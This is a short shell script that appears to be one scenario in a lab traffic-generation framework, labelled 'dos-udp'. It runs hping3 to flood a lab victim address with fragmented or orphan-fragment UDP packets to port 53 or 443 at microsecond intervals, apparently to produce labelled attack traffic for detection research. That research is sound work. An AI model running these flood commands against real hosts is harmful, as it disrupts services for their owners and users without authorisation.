# SPDX-License-Identifier: MIT
# label: dos-udp
# source: lab-hping3
# needs: hping3
# seconds: 60
# Datagrams in pieces, or pieces that fit nothing.
. $lab/victims.sh

scenario() {
	_kind=$(choose whole-pieces first-only)
	_gap=$(choose u1000 u3000)
	setting options "$_kind -i $_gap"
	intent_begin s b udp 0
	if [ "$_kind" = whole-pieces ]; then
		on s timeout 12 hping3 -q -n --udp -p "$(choose 53 443)" -i "$_gap" -d 2800 -f \
			-m 1400 "$(addr b)"
	else
		on s timeout 12 hping3 -q -n --udp -p "$(choose 53 443)" -i "$_gap" -d 600 \
			-x "$(addr b)"
	fi
	intent_end
}
